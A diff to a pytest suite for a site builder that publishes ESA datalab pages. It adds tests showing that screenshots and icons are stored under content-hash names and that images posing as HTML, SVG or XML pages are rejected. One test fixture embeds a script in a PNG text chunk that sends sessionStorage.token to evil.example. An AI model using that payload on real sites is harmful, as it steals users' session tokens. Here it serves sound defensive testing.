@@ -64,7 +64,9 @@ def test_datalab_page_content(store):
     assert 'href="https://datalabs.esa.int/launch?datalab=gaia-dr3-hrd&amp;version=1.2.0"' in page
     assert "/data/gaia/dr3" in page and "gaia_dr3_source" in page
     assert "1 of 1 notebooks failed" in page and "Made my HRD figure in minutes." in page
-    assert (folder / "datalabs" / "gaia-dr3-hrd" / "screenshots" / "hr_diagram.png").is_file()
+    shot = (REPO / "datalabs" / "gaia-dr3-hrd" / "screenshots" / "hr_diagram.png").read_bytes()
+    published = folder / "datalabs" / "gaia-dr3-hrd" / "media" / f"{hashlib.sha256(shot).hexdigest()[:20]}.png"
+    assert published.read_bytes() == shot and f'src="../../datalabs/gaia-dr3-hrd/media/{published.name}"' in page
     assert "&lt;script&gt;alert(&#39;feedback&#39;)" in page
     archived = html(folder, "datalabs/herschel-spire-photometry")
     assert "Archived on 2026-07-01." in archived and "sa-launch" not in archived
@@ -199,3 +201,47 @@ def test_a_datalab_with_a_tagged_value_is_left_out_and_the_store_still_builds(tm
     (out / "stale.html").write_text("from the previous build")
     assert CliRunner().invoke(cli, args).exit_code == 1
     assert not (out / "stale.html").exists() and (out / "datalabs" / "gaia-dr3-hrd" / "index.html").is_file()
+
+
+
+def _picture_with_a_script() -> bytes:
+    """A real PNG that carries `<script>` in a text chunk."""
+    import io
+
+    from PIL import Image, PngImagePlugin
+
+    info = PngImagePlugin.PngInfo()
+    info.add_text("Comment", "<html><script>fetch('https://evil.example/?t='+sessionStorage.token)</script></html>")
+    out = io.BytesIO()
+    Image.new("RGB", (8, 8), "white").save(out, "PNG", pnginfo=info)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("field, name", [("screenshot", "screenshots/shot.html"), ("icon", "index.html"),
+                                         ("icon", "icon.svg"), ("screenshot", "screenshots/shot.xml"), ("icon", "icon")])
+def test_a_picture_is_never_published_as_a_page(tmp_path, field, name):
+    """Validation refuses the name (DL-042); and whatever reaches the store is published under
+    a name from its content, never over a page."""
+    import shutil
+
+    from sciapps.catalog.loader import load_datalab
+    from sciapps.config import load_config
+    from sciapps.site.data import picture_names
+
+    folder = tmp_path / "datalabs" / "gaia-dr3-hrd"
+    shutil.copytree(REPO / "datalabs" / "gaia-dr3-hrd", folder)
+    (folder / name).parent.mkdir(parents=True, exist_ok=True)
+    (folder / name).write_bytes(_picture_with_a_script())
+    metadata = folder / "datalab.yaml"
+    text = metadata.read_text()
+    text = text.replace("screenshots/hr_diagram.png", name) if field == "screenshot" else text + f"icon: {name}\n"
+    metadata.write_text(text)
+    config = load_config(REPO / "sciapps.yaml")
+    from tests.conftest import findings_for, rule_ids
+
+    assert rule_ids(findings_for(folder, config)) == ["DL-042"]
+    import yaml
+
+    names = picture_names(folder, yaml.safe_load(metadata.read_text()), 2 * 1024 * 1024)
+    assert names[name].startswith("media/") and names[name].endswith(".png")
+    assert load_datalab(folder, config.limits).id == "gaia-dr3-hrd"
